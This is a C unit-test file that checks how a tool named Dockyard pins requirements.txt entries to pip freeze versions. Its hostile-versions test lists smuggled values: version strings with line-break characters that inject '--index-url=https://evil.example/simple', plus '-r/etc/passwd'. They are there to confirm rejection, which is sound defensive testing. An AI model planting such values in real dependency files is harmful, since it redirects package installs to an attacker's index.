/* SPDX-License-Identifier: GPL-3.0-or-later */
/* What pinning makes of a requirements file, given what pip freeze
 * printed: no engine here (test-pin-requirements runs pip for real). */
#include "config.h"

#include "dockyard-pin-requirements.h"
#include "dockyard-test-utils.h"

/* As pip freeze --all prints it, with an editable and a direct-URL
 * install, which have no version to pin to. */
static const char freeze[] =
  "certifi==2023.7.22\n"
  "charset-normalizer==3.2.0\n"
  "-e git+https://example.org/repo.git@abc#egg=local_tool\n"
  "my-wheel @ file:///tmp/my_wheel-1.0-py3-none-any.whl\n"
  "requests==2.31.0\n"
  "urllib3==2.0.4\n"
  "Zope.Interface==6.0\n";

static const char *freeze_text = freeze;

static char *
pin_text (const char *text,
          guint      *n_changes)
{
  g_autoptr(GFile) file = g_file_new_for_path ("/nonexistent/requirements.txt");
  g_autoptr(DockyardPinPlan) plan = dockyard_pin_plan_new (file, text, strlen (text), freeze_text);
  GBytes *bytes = dockyard_pin_plan_get_text (plan);

  if (n_changes != NULL)
    *n_changes = dockyard_pin_plan_get_n_changes (plan);
  return g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
}

static void
check (const char *before,
       const char *after,
       guint       changes)
{
  g_autofree char *text = NULL;
  guint n = 0;

  text = pin_text (before, &n);
  g_assert_cmpstr (text, ==, after);
  g_assert_cmpuint (n, ==, changes);
}

static void
test_lines (void)
{
  /* Names match whatever their spelling. */
  check ("Requests\nCHARSET_NORMALIZER\nzope-interface\n",
         "Requests==2.31.0\nCHARSET_NORMALIZER==3.2.0\nzope-interface==6.0\n", 3);
  /* Specifier replaced, spacing and what follows kept. */
  check ("requests >= 2.0, <3  # http\n", "requests==2.31.0  # http\n", 1);
  check ("urllib3;python_version>'3'\n", "urllib3==2.0.4;python_version>'3'\n", 1);
  check ("requests[socks,security]~=2.0 ; sys_platform == 'linux'\n",
         "requests[socks,security]==2.31.0 ; sys_platform == 'linux'\n", 1);
  /* Indented, CRLF, no final line ending, an empty file. */
  check ("  requests\r\n\r\ncertifi", "  requests==2.31.0\r\n\r\ncertifi==2023.7.22", 2);
  check ("", "", 0);
  /* Left alone: pinned, wildcard-free ===, comments, options, URLs, and
   * packages whose freeze line has no version. */
  check ("# requests\nrequests==2.30.0\ncertifi===2023.7.22\n-r other.txt\n"
         "./local-dir\nhttps://example.org/pkg.tar.gz\nlocal_tool\nmy-wheel\n",
         "# requests\nrequests==2.30.0\ncertifi===2023.7.22\n-r other.txt\n"
         "./local-dir\nhttps://example.org/pkg.tar.gz\nlocal_tool\nmy-wheel\n", 0);
  /* A wildcard is not a pin. */
  check ("requests==2.*\n", "requests==2.31.0\n", 1);
}

static void
test_left_as_they_are (void)
{
  g_autoptr(GFile) file = g_file_new_for_path ("/nonexistent/requirements.txt");
  static const char text[] =
    "requests \\\n"
    "  >=2.0\n"
    "urllib3 --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000\n"
    "not-installed>=1\n";
  g_autoptr(DockyardPinPlan) plan = dockyard_pin_plan_new (file, text, strlen (text), freeze);
  const DockyardRequirementPin *pin;

  /* Continued on the next line, or with hashes of some other version:
   * installed, but not rewritten; not installed: listed as such. */
  g_assert_cmpuint (dockyard_pin_plan_get_n_changes (plan), ==, 0);
  g_assert_cmpuint (dockyard_pin_plan_get_n_pins (plan), ==, 3);

  pin = dockyard_pin_plan_get_pin (plan, 0);
  g_assert_cmpuint (pin->line, ==, 1);
  g_assert_cmpstr (pin->old_text, ==, "requests \\");
  g_assert_null (pin->new_text);
  g_assert_cmpstr (pin->version, ==, "2.31.0");

  pin = dockyard_pin_plan_get_pin (plan, 1);
  g_assert_cmpuint (pin->line, ==, 3);
  g_assert_null (pin->new_text);
  g_assert_cmpstr (pin->version, ==, "2.0.4");

  pin = dockyard_pin_plan_get_pin (plan, 2);
  g_assert_cmpuint (pin->line, ==, 4);
  g_assert_cmpstr (pin->name, ==, "not-installed");
  g_assert_null (pin->new_text);
  g_assert_null (pin->version);

  g_assert_true (g_bytes_get_size (dockyard_pin_plan_get_text (plan)) == strlen (text));
}

/* Issue 16, item 4: a version from pip freeze is written after "==" only
 * if it is a PEP 440 version.  pip splits requirement lines with Python's
 * splitlines(), so a vertical tab, a form feed or any other line break in
 * a "version" would start a line of its own, an option such as
 * --index-url. */
static void
test_hostile_versions (void)
{
  static const char * const hostile[] = {
    "2.31.0\v--index-url=https://evil.example/simple",
    "2.31.0\f--index-url=https://evil.example/simple",
    "2.31.0\r--index-url=https://evil.example/simple",
    "2.31.0\x1c--extra-index-url=https://evil.example/simple",
    "2.31.0\xc2\x85--index-url=https://evil.example/simple",
    "2.31.0\xe2\x80\xa8--index-url=https://evil.example/simple",
    "2.31.0 --index-url=https://evil.example/simple",
    "2.31.0;python_version>'3'",
    "2.31.0#comment",
    "2.31.0\\",
    "-r/etc/passwd",
    "1.0+",
    "1..0",
    "",
  };

  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    {
      g_autoptr(GFile) file = g_file_new_for_path ("/nonexistent/requirements.txt");
      g_autofree char *line = g_strdup_printf ("requests==%s\n", hostile[i]);
      g_autoptr(DockyardPinPlan) plan = dockyard_pin_plan_new (file, "requests\n", 9, line);
      const DockyardRequirementPin *pin;

      g_assert_cmpuint (dockyard_pin_plan_get_n_changes (plan), ==, 0);
      g_assert_cmpuint (dockyard_pin_plan_get_n_pins (plan), ==, 1);
      pin = dockyard_pin_plan_get_pin (plan, 0);
      g_assert_null (pin->version);
      g_assert_null (pin->new_text);
    }

  /* What PEP 440 allows still pins. */
  freeze_text = "a==2!1.0.post1.dev2+local.3\nb==1.0rc1\nc==1.0a1\nd==20231201\n";
  check ("a\nb\nc\nd\n",
         "a==2!1.0.post1.dev2+local.3\nb==1.0rc1\nc==1.0a1\nd==20231201\n", 4);
}

int
main (int   argc,
      char *argv[])
{
  dockyard_test_init (&argc, &argv);

  g_test_add_func ("/pin-plan/lines", test_lines);
  g_test_add_func ("/pin-plan/left-as-they-are", test_left_as_they_are);
  g_test_add_func ("/pin-plan/hostile-versions", test_hostile_versions);

  return g_test_run ();
}
